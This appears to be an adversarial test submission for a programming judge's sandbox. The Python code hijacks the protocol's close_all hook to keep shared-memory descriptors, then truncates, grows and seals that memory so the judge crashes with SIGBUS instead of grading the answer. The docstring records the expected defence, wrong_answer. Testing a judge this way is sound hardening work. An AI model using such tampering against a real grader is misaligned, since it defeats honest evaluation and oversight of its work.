"""Shrinks the memory that it shares with the judge.

Mechanism: keeps the descriptors of the shared memory; shrinks it, grows it without end and seals it, so that
  the judge's reads fault.
Surface: memory that box and judge share.
Gain: a judge that is ended by SIGBUS: not the student's fault.
Challenge: twice
Defence: wrong_answer
"""

import contextlib
import fcntl
import os

import protocol

kept = []
protocol.close_all = kept.extend
SEALS = (8, 4, 2, 1, 16)


def solve(x, out, n):
    for descriptor in kept:
        for change in (
            lambda descriptor: os.ftruncate(descriptor, 0),
            lambda descriptor: os.ftruncate(descriptor, 1 << 40),
            lambda descriptor: os.posix_fallocate(descriptor, 0, 1 << 31),
        ):
            with contextlib.suppress(OSError):
                change(descriptor)
        for seal in SEALS:
            with contextlib.suppress(OSError):
                fcntl.fcntl(descriptor, fcntl.F_ADD_SEALS, seal)
